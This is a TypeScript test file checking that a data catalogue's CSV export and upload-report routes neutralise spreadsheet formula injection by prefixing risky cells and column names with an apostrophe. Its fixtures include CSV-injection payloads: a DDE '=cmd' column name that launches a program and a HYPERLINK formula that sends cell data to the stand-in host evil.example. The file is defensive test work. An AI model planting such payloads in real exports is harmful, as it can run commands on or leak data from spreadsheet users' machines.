import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import request from 'supertest';
import { storeKindUnderTest } from '../../support/test-store';
import { bearer, createStewardsWorld, loginAs, type StewardsWorld } from '../stewards/stewards-world';
import { binary } from './api-fixture';

/**
 * CSV injection through the export routes (contract section 6, OWASP's advice): a cell, or a
 * column name, that a spreadsheet would run as a formula (=, +, -, @, tab, CR) comes out with a
 * leading apostrophe in every CSV profile, numbers stay numbers; the stewards' report CSV does the
 * same with the invalid values it quotes.
 */
let w: StewardsWorld;
const SLUG = 'formules';
const FORMULA_COLUMN = '=cmd|\' /C calc\'!A0';
const TEXTS = ['=1+1', '+33 6 12 34 56 78', '-2+3', '@SUM(A1:A9)', '\tTAB', '\r=CR', '=HYPERLINK("http://evil.example/?x="&A1,"clic")', '-12,5', '+33', 'Évreux'];
const NEUTRALISED = ["'=1+1", "'+33 6 12 34 56 78", "'-2+3", "'@SUM(A1:A9)", "'\tTAB", "'\r=CR", '\'=HYPERLINK("http://evil.example/?x="&A1,"clic")', '-12,5', '+33', 'Évreux'];

beforeAll(async () => {
  w = await createStewardsWorld({ datasets: false });
  const actor = w.catalogue.accounts.actorFor(w.agent.account, 'token', null);
  await w.catalogue.stewards.create(actor, {
    metadata: { slug: SLUG, title: 'Formules', description: 'Cellules piégées.', organization: 'departement-eure', licence: 'etalab-2.0' },
    schema: {
      type: 'object',
      properties: { n: { type: 'integer' }, [FORMULA_COLUMN]: { type: 'string' }, montant: { type: 'number' } },
      required: ['n'], 'x-primaryKey': ['n'],
    },
  });
  const csv = stringify([['n', FORMULA_COLUMN, 'montant'], ...TEXTS.map((t, i) => [i + 1, t, -(i + 0.5)])]);
  const outcome = await w.catalogue.stewards.uploads.upload(actor, SLUG, { path: w.writeFile('formules.csv', csv), name: 'formules.csv' });
  expect(outcome.status).toBe('published');
});
afterAll(() => w.cleanup());

const exportText = async (query: string) => {
  const res = await request(w.app).get(`/api/v1/datasets/${SLUG}/exports/csv${query}`).buffer(true).parse(binary).expect(200);
  return (res.body as Buffer).toString('utf8').replace(/^\uFEFF/, '');
};

describe(`CSV exports neutralise formulas (${storeKindUnderTest()})`, () => {
  it.each([
    { profile: 'default', query: '', delimiter: ',', amounts: TEXTS.map((_, i) => String(-(i + 0.5))) },
    { profile: 'excel-fr', query: '?_profile=excel-fr', delimiter: ';', amounts: TEXTS.map((_, i) => String(-(i + 0.5)).replace('.', ',')) },
    { profile: 'tab-separated', query: '?_delimiter=tab', delimiter: '\t', amounts: TEXTS.map((_, i) => String(-(i + 0.5))) },
  ])('$profile: text and column names with an apostrophe, negative numbers untouched', async ({ query, delimiter, amounts }) => {
    const [header, ...rows] = parse(await exportText(query), { delimiter, relax_quotes: true }) as string[][];
    expect(header).toEqual(['n', `'${FORMULA_COLUMN}`, 'montant']);
    expect(rows.map((r) => r[1])).toEqual(NEUTRALISED);
    expect(rows.map((r) => r[2])).toEqual(amounts);
  });

  it('the report CSV of a rejected upload neutralises the invalid values it quotes', async () => {
    const csv = stringify([['n', FORMULA_COLUMN, 'montant'], [1, 'a', '=1+1'], [2, 'b', '@SUM(A1)'], [3, 'c', '-A1']]);
    const res = await request(w.app).post(`/api/v1/datasets/${SLUG}/versions`).set(bearer(w.agent.token)).set('Content-Type', 'text/csv').send(csv).expect(422);
    expect(res.body.report.errors.map((e: { value: string }) => e.value)).toEqual(['=1+1', '@SUM(A1)', '-A1']);
    const uploads = (await request(w.app).get(`/api/v1/datasets/${SLUG}/uploads`).set(bearer(w.agent.token)).expect(200)).body;
    const rejected = (uploads.uploads as Array<{ id: number; status: string }>).find((u) => u.status === 'rejected')!;
    const { browser } = await loginAs(w.app, w.agent.email);
    const file = await browser.get(`/espace/jeux/${SLUG}/rapports/${rejected.id}/rapport.csv`).buffer(true).parse(binary).expect(200);
    const [header, ...lines] = parse((file.body as Buffer).toString('utf8').replace(/^\uFEFF/, ''), { delimiter: ';' }) as string[][];
    const value = header.indexOf('valeur');
    expect(lines.map((l) => l[value])).toEqual(["'=1+1", "'@SUM(A1)", "'-A1"]);
  });
});
